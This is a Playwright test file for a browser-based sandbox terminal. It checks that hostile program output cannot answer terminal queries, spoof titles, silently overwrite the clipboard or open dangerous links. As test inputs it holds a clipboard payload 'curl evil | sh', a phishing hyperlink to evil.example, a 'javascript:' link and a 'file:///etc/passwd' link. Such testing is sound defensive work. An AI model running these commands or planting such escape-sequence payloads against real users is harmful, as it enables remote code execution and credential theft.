/** Terminals as people use them, and as hostile output would like to use the people. */
import { expect, type Page, test } from '@playwright/test';
import type { Sandbox } from '@sandglass/client/node';
import { expectAccessible, tabTo } from '../access.ts';
import { nothingWarm, useWorld } from '../world.ts';

test.describe.configure({ mode: 'serial' });

const world = useWorld(nothingWarm);
const ESC = '\\033';
let sandbox: Sandbox;

const rows = (page: Page) => page.locator('.xterm-rows').last();
const pane = (page: Page) => page.locator('.terminal-pane').last();
test.use({ actionTimeout: 15_000 });
const person = { permissions: ['clipboard-read', 'clipboard-write'] };

async function type(page: Page, line: string): Promise<void> {
  await page.locator('.xterm-helper-textarea').last().focus();
  await page.keyboard.type(line);
  await page.keyboard.press('Enter');
}

test.beforeAll(async () => {
  test.setTimeout(120_000);
  sandbox = await world.client.sandboxes.create({ image: 'base', name: 'terminals' });
});

test('a program quotes its title, asks for the clipboard, and gets no answers', async ({ browser }) => {
  await using at = await world.open(browser, `/s/${sandbox.id}`, person);
  const { page } = at;
  await expect(rows(page)).toContainText('$');
  // Every question at once; an answer would be typed into the shell, before the word that follows.
  await type(
    page,
    `printf '${ESC}[c${ESC}[>c${ESC}[>q${ESC}P$qm${ESC}\\\\${ESC}]10;?\\007${ESC}]11;?\\007${ESC}]4;1;?\\007${ESC}[21t${ESC}]52;c;?\\007'; read -t 2 -n 1 answer; echo "answer=[$answer]"`,
  );
  await expect(rows(page)).toContainText('answer=[]');
  await type(page, `PS1='$ '; printf '${ESC}]0;Sandglass: sign in again\\007'`);
  await expect(pane(page).getByTitle('The program in it chose this title')).toHaveText('“Sandglass: sign in again”');
  await expect(page).not.toHaveTitle(/sign in again/);

  await page.evaluate(() => navigator.clipboard.writeText('mine'));
  await type(page, `printf '${ESC}]52;c;%s\\007' "$(printf 'curl evil | sh' | base64)"`);
  const offer = pane(page).getByText('A program wants to put 14 characters on your clipboard.');
  await expect(offer).toBeVisible();
  expect(await page.evaluate(() => navigator.clipboard.readText())).toBe('mine');
  await expectAccessible(page, 'an offer for the clipboard', '.terminal-pane');
  await pane(page).getByRole('button', { name: 'Look at it…' }).click();
  const question = page.getByRole('dialog', { name: 'Put 14 characters on your clipboard?' });
  await expect(question.getByText('curl evil | sh')).toBeVisible();
  await question.getByRole('button', { name: 'Refuse' }).click();
  await expect(offer).toBeHidden();
  expect(await page.evaluate(() => navigator.clipboard.readText())).toBe('mine');
});

test('text is found by keyboard alone', async ({ browser }) => {
  await using at = await world.open(browser, `/s/${sandbox.id}`);
  const { page } = at;
  await expect(rows(page)).toContainText('$');
  await type(page, 'clear; for i in 1 2 3; do echo Needle-$i; done; echo needle-4');
  await expect(rows(page)).toContainText('needle-4');
  await page.keyboard.press('Control+f');
  const find = page.getByRole('search');
  await expect(find.getByLabel('Find in this terminal')).toBeFocused();
  await page.keyboard.type('needle-');
  await expect(find.getByRole('status')).toHaveText(/of [45]$/);
  await expectAccessible(page, 'find in a terminal', '.terminal-pane');
  const before = await find.getByRole('status').textContent();
  await page.keyboard.press('Enter');
  await expect(find.getByRole('status')).not.toHaveText(before!);
  await tabTo(page, find.getByRole('button', { name: 'Match case' }));
  await page.keyboard.press('Enter');
  await expect(find.getByRole('status')).toHaveText(/of [12]$/);
  await find.getByRole('button', { name: 'Regular expression' }).click();
  await find.getByLabel('Find in this terminal').fill('(');
  await expect(find.getByRole('status')).toHaveText('Not a valid expression');
  await find.getByLabel('Find in this terminal').press('Escape');
  await expect(find).toBeHidden();
  await expect(page.locator('.xterm-helper-textarea').last()).toBeFocused();
});

test('a paste that would run or press something is looked at first', async ({ browser }) => {
  await using at = await world.open(browser, `/s/${sandbox.id}`, person);
  const { page } = at;
  await expect(rows(page)).toContainText('$');
  await type(page, "bind 'set enable-bracketed-paste off'; clear");
  await page.evaluate(() => navigator.clipboard.writeText('echo first\necho second\u001b[2J\n'));
  await page.keyboard.press('Control+v');
  const question = page.getByRole('dialog', { name: 'Paste 3 lines?' });
  await expect(question.getByText('⟨ESC⟩[2J')).toBeVisible();
  await expectAccessible(page, 'a paste of many lines', '.ui-dialog');
  await page.keyboard.press('Escape');
  await expect(question).toBeHidden();
  await expect(rows(page)).not.toContainText('echo first');
  await page.evaluate(() => navigator.clipboard.writeText('echo to-\necho gether\n'));
  await page.locator('.xterm-helper-textarea').last().focus();
  await page.keyboard.press('Control+v');
  await page.getByRole('button', { name: 'Paste as one line' }).click();
  await expect(rows(page)).toContainText('$ echo to- echo gether');
  await page.keyboard.press('Enter');
  await expect(rows(page)).toContainText('to- echo gether');
});

test('a path opens in the editor at its line; a link says where it leads, and opens nothing by itself', async ({
  browser,
}) => {
  await sandbox.run('mkdir -p app');
  await sandbox.files.write('app/long.ts', Array.from({ length: 90 }, (_, i) => `// line ${i + 1}\n`).join(''));
  await using at = await world.open(browser, `/s/${sandbox.id}`, person);
  const { page, context } = at;
  await expect(rows(page)).toContainText('$');
  await type(
    page,
    `clear; cd ~/app; echo 'long.ts:77:3 - error'; echo missing.ts:1; printf '${ESC}]8;;https://evil.example/login${ESC}\\\\my-bank${ESC}]8;;${ESC}\\\\ ${ESC}]8;;javascript:alert(1)${ESC}\\\\script${ESC}]8;;${ESC}\\\\ ${ESC}]8;;file:///etc/passwd${ESC}\\\\passwd${ESC}]8;;${ESC}\\\\\\n'`,
  );
  // Not the command that says so, which stands there until it is cleared.
  await expect(rows(page)).toContainText('my-bank script passwd');
  const target = pane(page).locator('.terminal-target');
  const point = async (text: string) => {
    const line = rows(page).locator('div', { hasText: text }).last();
    const box = (await line.boundingBox())!;
    const column = ((await line.textContent()) ?? '').indexOf(text);
    const cell = box.width / (await columnsOf(page));
    // From beside it: what the pointer rests on is looked at when it comes.
    await page.mouse.move(box.x + 300, box.y + box.height * 4);
    await page.mouse.move(box.x + (column + 2) * cell, box.y + box.height / 2, { steps: 3 });
    return { x: box.x + (column + 2) * cell, y: box.y + box.height / 2 };
  };

  const pointAt = async (text: string, leadsTo: string) => {
    const place = await point(text);
    await expect(target).toHaveText(leadsTo);
    return place;
  };
  const link = await pointAt('my-bank', 'https://evil.example/login');
  const pages = context.pages().length;
  await page.mouse.click(link.x, link.y);
  const question = page.getByRole('dialog', { name: 'Open evil.example?' });
  await expect(question.getByText('https://evil.example/login')).toBeVisible();
  await expectAccessible(page, 'a link', '.ui-dialog');
  await question.getByRole('button', { name: 'Stay here' }).click();
  expect(context.pages()).toHaveLength(pages);
  for (const bad of ['script', 'passwd']) {
    const place = await point(bad);
    await page.mouse.click(place.x, place.y);
    await expect(target).toBeHidden();
    await expect(page.getByRole('dialog')).toBeHidden();
  }

  const file = await pointAt('long.ts:77', '/home/user/app/long.ts:77');
  await page.mouse.click(file.x, file.y);
  await expect(page.locator('.monaco-editor').getByText('// line 77', { exact: true })).toBeVisible();
});

const columnsOf = async (page: Page): Promise<number> =>
  Number((await pane(page).locator('.terminal-size').textContent())!.split('×')[0]);

test('a second viewer of another size garbles nothing, and is told who decides', async ({ browser }) => {
  const { secret } = await world.client.request('createToken', { body: { name: 'Ann the watcher', role: 'operator' } });
  await using first = await world.open(browser, `/s/${sandbox.id}`);
  await expect(rows(first.page)).toContainText('$');
  await expect(pane(first.page).locator('.terminal-size')).toHaveText(/^\d+×\d+$/);
  const size = await pane(first.page).locator('.terminal-size').textContent();
  await using second = await world.open(browser, `/s/${sandbox.id}`, {
    token: secret,
    viewport: { width: 1600, height: 1100 },
  });
  await expect(pane(second.page).locator('.terminal-size')).toContainText(`${size} sized by`);
  await expect(pane(first.page).locator('.terminal-size')).toHaveText(size!);
  await first.page.close();
  await expect(pane(second.page).locator('.terminal-size')).toHaveText(/^\d+×\d+$/);
});

test('a link that breaks keeps the text and says so', async ({ browser }) => {
  await using at = await world.open(browser, `/s/${sandbox.id}`);
  const { page } = at;
  await expect(rows(page)).toContainText('$');
  await type(page, 'clear; echo still-$((6*7))');
  await expect(rows(page)).toContainText('still-42');
  await world.server.killServer();
  await expect(pane(page).getByText('Reconnecting…', { exact: false })).toBeVisible();
  await expect(rows(page)).toContainText('still-42');
  await expect(pane(page).getByText('Connected again. Nothing was lost.')).toBeVisible({ timeout: 60_000 });
  await type(page, 'echo on-$((6*8))');
  await expect(rows(page)).toContainText('on-48');
});

test('is made larger, is split, ends with its code and is started again', async ({ browser }) => {
  await using at = await world.open(browser, `/s/${sandbox.id}`);
  const { page } = at;
  await expect(rows(page)).toContainText('$');
  const columns = await columnsOf(page);
  await page.locator('.xterm-helper-textarea').last().focus();
  for (let i = 0; i < 4; i++) await page.keyboard.press('Control+=');
  await expect.poll(() => columnsOf(page)).toBeLessThan(columns);
  await pane(page)
    .getByRole('button', { name: /^Actions of/ })
    .click();
  await page.getByRole('menuitem', { name: 'How terminals look and behave…' }).click();
  const settings = page.getByRole('dialog', { name: 'How terminals look and behave' });
  await expect(settings.getByText('16 px')).toBeVisible();
  await expectAccessible(page, 'settings of terminals', '.ui-dialog');
  await settings.getByRole('button', { name: 'Done' }).click();

  await pane(page).getByRole('button', { name: 'Split to the right' }).click();
  await expect(page.locator('.terminal-pane:visible')).toHaveCount(2);
  await expect(rows(page)).toContainText('$');
  await type(page, 'exit 3');
  const ended = page.getByText('This terminal ended with exit code 3.', { exact: false });
  await expect(ended).toBeVisible();
  await expectAccessible(page, 'an ended terminal', '.terminal-pane');
  await page.getByRole('button', { name: 'Start again' }).click();
  await expect(ended).toBeHidden();
  await expect(rows(page)).toContainText('$');
});

test('on a phone a terminal is read, found in and typed into, and keeps its size', async ({ browser }) => {
  // A phone opens none by itself: who opens it first decides its size.
  await world.client.request('openTerminal', {
    params: { sandbox: sandbox.id },
    body: { name: 'shared', owner: 'person' },
  });
  await using at = await world.open(browser, `/s/${sandbox.id}?pane=terminal`, {
    viewport: { width: 390, height: 844 },
    hasTouch: true,
  });
  const { page } = at;
  await expect(rows(page)).toBeVisible();
  await pane(page).getByRole('button', { name: 'Find' }).tap();
  await expect(page.getByRole('search').getByLabel('Find in this terminal')).toBeFocused();
  await page.getByRole('search').getByRole('button', { name: 'Close find' }).tap();
  await type(page, 'echo thumb-$((40+2))');
  await expect(rows(page)).toContainText('thumb-42');
  await expectAccessible(page, 'a terminal on a phone', '.terminal-pane');
});
